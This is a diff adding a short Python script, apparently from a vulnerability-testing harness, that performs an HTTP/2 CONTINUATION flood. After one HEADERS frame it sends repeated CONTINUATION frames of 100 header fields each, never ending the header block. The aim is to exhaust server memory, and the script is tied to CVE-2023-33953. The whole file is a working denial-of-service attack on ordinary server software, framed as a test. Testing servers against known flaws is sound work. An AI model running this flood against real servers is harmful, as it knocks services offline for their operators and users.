@@ -1,0 +1,22 @@
+"""Small header fields in CONTINUATION frames without end: each frame is below the limit of headers."""
+
+from flood import Flood
+from harness import MIB, Known, run
+from http2 import CONTINUATION, HEADERS, frame, header_block, literal
+
+
+def attack(target):
+    def begin(connection):
+        connection.stream = connection.next_stream()
+        connection.send(frame(HEADERS, 0, connection.stream, header_block("/x/y")))
+
+    block = b"".join(literal("x-%d" % i, "v" * 40) for i in range(100))
+
+    def part(connection):
+        return frame(CONTINUATION, 0, connection.stream, block) * 32
+
+    return Flood(target, 2, 192 * MIB, begin, part).outcome()
+
+
+if __name__ == "__main__":
+    run("CONTINUATION flood", attack, memory_mib=512, known=Known("CVE-2023-33953", (1, 57)))
